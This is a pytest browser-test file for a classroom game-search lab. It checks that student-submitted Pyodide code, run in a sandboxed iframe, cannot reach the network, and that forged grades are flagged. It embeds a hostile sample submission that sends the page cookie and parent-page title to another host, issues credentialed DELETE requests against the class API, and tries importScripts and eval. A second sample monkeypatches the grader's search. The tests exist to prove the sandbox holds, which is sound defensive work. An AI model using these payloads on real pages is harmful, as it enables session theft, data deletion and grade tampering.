"""Students' code in a browser runs in the lab's sandbox (an ``<iframe sandbox="allow-scripts">`` of an opaque
origin, under a policy that allows no network but the lab's files), whoever's page runs it: the student's
own run, the teacher's class tournament, the teacher's check of the grades. A submitted e(P) that tries to
delete the board with the page's cookie, to read the cookie or the page, or to load or send anything
elsewhere finds none of it working, and the board is intact after. The teacher's check flags a grade forged
with perfect moves and verifies honest ones.

No CSP bypass in these browsers: the policies are what is tested (the waits are Playwright's locators,
never its string expressions, which are an eval the pages forbid)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from pages import NEEDS_PYODIDE, TEXTBOOK_SOURCE

from inarow import analyze, parse_position
from inarow.rules.notation import parse_game
from inarow.web import browser as browser_side

if TYPE_CHECKING:  # tests/web/conftest.py: pytest's module, for its type only
    from conftest import Server

pytestmark = [pytest.mark.browser, pytest.mark.slow, NEEDS_PYODIDE]

STUDENTS = "the-class-key-of-the-sandbox"
TEACHER = "the-teacher-key-of-the-sandbox"
ZERO = "def e(board):\n    return 0\n"
TEXTBOOK = TEXTBOOK_SOURCE

ATTACK = '''\
import js
from pyodide.ffi import to_js

SERVER, ELSEWHERE = {server!r}, {elsewhere!r}
worked = []
tried = False


def told(name):
    """Tell the other host that ``name`` worked (which only works if the network is open)."""
    js.fetch(f"{{ELSEWHERE}}/worked/{{name}}")


def attempt(name, action):
    try:
        action()
    except BaseException:
        return
    worked.append(name)
    try:
        told(name)
    except BaseException:
        pass


def options(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)


def deleted(url):
    """fetch answers later: whatever it answers, the other host is told."""
    answer = js.fetch(url, options(method="DELETE", credentials="include"))
    answer.then(lambda reply: told(f"fetch-{{reply.status}}"))


def sent(url):
    request = js.XMLHttpRequest.new()
    request.open("DELETE", url, False)
    request.withCredentials = True
    request.send()


# The same as the module is imported, before e(P) is ever called.
attempt("fetch-at-import", lambda: deleted(f"{{SERVER}}/api/class"))
attempt("xhr-at-import", lambda: sent(f"{{SERVER}}/api/class"))


def e(board):
    global tried
    if not tried:
        tried = True
        attempt("fetch-relative", lambda: deleted("/api/class"))
        attempt("fetch-server", lambda: deleted(f"{{SERVER}}/api/class"))
        attempt("xhr", lambda: sent(f"{{SERVER}}/api/class"))
        attempt("cookie", lambda: told("cookie-" + str(js.document.cookie)))
        attempt("parent", lambda: told("parent-" + str(js.parent.document.title)))
        attempt("import-scripts", lambda: js.importScripts(f"{{ELSEWHERE}}/loaded.js"))
        attempt("eval", lambda: js.eval(f"fetch('{{ELSEWHERE}}/eval')"))
        attempt("function", lambda: js.Function(f"fetch('{{ELSEWHERE}}/function')")())
    return len([name for name in worked if not name.startswith("fetch")])
'''
"""An e(P) that tries, once per load, what a student's code must not do from a teacher's page, and
returns how many of the attempts that answer at once did not fail (0 when none worked). Whatever gets
through tells the other host."""


class Elsewhere:
    """Another host (a local HTTP server on a port of its own): every request that reaches it is kept."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(b"// nothing\n")

            do_POST = do_DELETE = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.heard = heard
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    host = Elsewhere()
    yield host
    host.close()


@pytest.fixture
def class_server(make_server: Any) -> Server:
    """A class server with its two keys; the test's own requests carry the teacher's."""
    keys = ("--token", STUDENTS, "--teacher-token", TEACHER)
    server: Server = make_server(extra=keys, headers={"X-Inarow-Token": TEACHER})
    return server.start()


def graded_positions(server: Server) -> list[str]:
    answer = httpx.get(f"{server.url}/api/lab/positions", headers=server.headers, timeout=300)
    positions: list[str] = answer.json()["positions"]
    return positions


def chosen(source: str, diagrams: list[str], depth: int | None = 1) -> dict[str, Any]:
    """The moves and values the lab's search chooses with ``source``'s e(P), as a student's page sends
    them (the very module its worker runs, here in CPython)."""
    browser_side.load("chosen", source)
    return browser_side.choose("chosen", "tictactoe", diagrams, "alphabeta", depth)


def perfect(diagrams: list[str]) -> dict[str, Any]:
    """A forged grade's moves: one of ``inarow.analyze``'s best moves in each position."""
    game = parse_game("tictactoe")
    return {"moves": " ".join(analyze(parse_position(diagram, game)).best[0] for diagram in diagrams)}


def submit(server: Server, name: str, source: str, moves: dict[str, Any]) -> None:
    """A submission posted with the class's key, as a student's browser posts it."""
    body = {"name": name, "evaluation": "e", "algorithm": "alphabeta", "depth": 1, "source": source, **moves}
    answer = httpx.post(
        f"{server.url}/api/class", json=body, headers={"X-Inarow-Token": STUDENTS}, timeout=300
    )
    assert answer.status_code == 200, answer.text


def board(server: Server) -> dict[str, dict[str, Any]]:
    rows = httpx.get(f"{server.url}/api/class", headers=server.headers, timeout=60).json()
    return {row["name"]: row for row in rows}


def open_page(browser: Any, server: Server, path: str, key: str) -> tuple[Any, Any, list[str]]:
    """A page of ``server`` opened with ``key`` (it becomes the cookie), under its own policies; the
    errors it raised."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{server.url}/?token={key}")
    page.goto(f"{server.url}{path}")
    return context, page, errors


def test_a_students_code_reaches_nothing_in_the_students_own_run(
    browser: Any, class_server: Server, elsewhere: Elsewhere
) -> None:
    from playwright.sync_api import expect

    submit(class_server, "Bo", ZERO, chosen(ZERO, graded_positions(class_server)))
    attack = ATTACK.format(server=class_server.url, elsewhere=elsewhere.url)
    context, page, errors = open_page(browser, class_server, "/?student=1", STUDENTS)
    page.get_by_test_id("student-code").fill(attack)
    page.get_by_test_id("student-run").click()
    expect(page.get_by_test_id("student-output")).to_have_text(
        "e(.../.../...) = 0, from X's standpoint (Max)", timeout=120_000
    )
    frame = page.locator("iframe[sandbox]")
    assert frame.count() == 1 and frame.get_attribute("sandbox") == "allow-scripts"
    page.wait_for_timeout(1000)  # what the attempts sent would have arrived by now
    context.close()
    assert errors == []
    assert elsewhere.heard == []
    assert list(board(class_server)) == ["Bo"]


def test_a_submitted_e_reaches_nothing_during_the_tournament_and_the_check_which_flags_a_forged_grade(
    browser: Any, class_server: Server, elsewhere: Elsewhere
) -> None:
    """Ada's grade is honest, Bo's forged (the moves of perfect play, the source ``return 0``), Cy's
    source the attack (an e(P) that returns 0: its moves are e ≡ 0's, honestly). The tournament and the
    check on every position run the attack twice in the teacher's page."""
    from playwright.sync_api import expect

    diagrams = graded_positions(class_server)
    attack = ATTACK.format(server=class_server.url, elsewhere=elsewhere.url)
    submit(class_server, "Ada", TEXTBOOK, chosen(TEXTBOOK, diagrams))
    submit(class_server, "Bo", ZERO, perfect(diagrams))
    submit(class_server, "Cy", attack, chosen(ZERO, diagrams))
    assert board(class_server)["Bo"]["accuracy"] == 1.0, "the forged grade is perfect"
    context, page, errors = open_page(browser, class_server, "/class", TEACHER)
    rows = page.get_by_test_id("class-row")
    expect(rows).to_have_count(3)
    page.get_by_test_id("class-tournament").click()
    expect(page.locator("#class-cross tbody tr")).to_have_count(3, timeout=120_000)
    expect(page.get_by_test_id("class-tournament")).to_be_enabled(timeout=120_000)

    page.get_by_test_id("class-verify-all").check()
    page.get_by_test_id("class-verify").click()
    expect(page.locator('[data-testid="class-row"][data-verified="no"]')).to_have_count(0, timeout=300_000)
    expect(page.get_by_test_id("class-verify")).to_be_enabled(timeout=60_000)
    marks = {
        rows.nth(i).get_attribute("data-name"): rows.nth(i).get_attribute("data-verified") for i in range(3)
    }
    assert marks == {"Ada": "yes", "Bo": "flagged", "Cy": "yes"}
    page.wait_for_timeout(1000)  # what the attempts sent would have arrived by now
    context.close()
    assert errors == []
    assert elsewhere.heard == []
    kept = board(class_server)
    assert sorted(kept) == ["Ada", "Bo", "Cy"], "the board is intact"
    assert {name: (row["verified"], row["checked"]) for name, row in kept.items()} == {
        "Ada": ("yes", len(diagrams)),
        "Bo": ("flagged", len(diagrams)),
        "Cy": ("yes", len(diagrams)),
    }
    assert kept["Ada"]["differing"] == kept["Cy"]["differing"] == 0 < kept["Bo"]["differing"]


PATCHES_THE_SEARCH = """\
import inarow.web.browser as lab

searched = lab.search


def to_the_end(position, algorithm, depth, evaluation, record=False):
    return searched(position, algorithm, None, evaluation, record=record)


lab.search = to_the_end  # every search after this one, whoever's e(P) it runs, to the end of the game


def e(board):
    return 0
"""
"""A source that patches the lab's search, so that it searches to the end: its own moves are then perfect
(and honestly its source's), and so would be those of any source checked after it in the same Python."""


def test_a_source_that_patches_the_search_cannot_make_the_next_ones_check_pass(
    browser: Any, class_server: Server
) -> None:
    """Ava's source patches the search; Bo posts the moves of a search to the end under ``return 0`` at
    depth 1. Checked in one Python, Bo's check would run with Ava's patch and pass; each source is checked
    in a Python of its own, so Bo is flagged and Ava (whose source does choose her moves) verified."""
    from playwright.sync_api import expect

    diagrams = graded_positions(class_server)
    to_the_end = chosen(ZERO, diagrams, depth=None)
    submit(class_server, "Bo", ZERO, to_the_end)
    submit(class_server, "Ava", PATCHES_THE_SEARCH, to_the_end)  # the latest, so listed and checked first
    assert list(board(class_server)) == ["Ava", "Bo"]
    context, page, errors = open_page(browser, class_server, "/class", TEACHER)
    rows = page.get_by_test_id("class-row")
    expect(rows).to_have_count(2)
    page.get_by_test_id("class-verify-all").check()
    page.get_by_test_id("class-verify").click()
    expect(page.locator('[data-testid="class-row"][data-verified="no"]')).to_have_count(0, timeout=300_000)
    marks = {
        rows.nth(i).get_attribute("data-name"): rows.nth(i).get_attribute("data-verified") for i in range(2)
    }
    context.close()
    assert errors == []
    assert marks == {"Ava": "yes", "Bo": "flagged"}
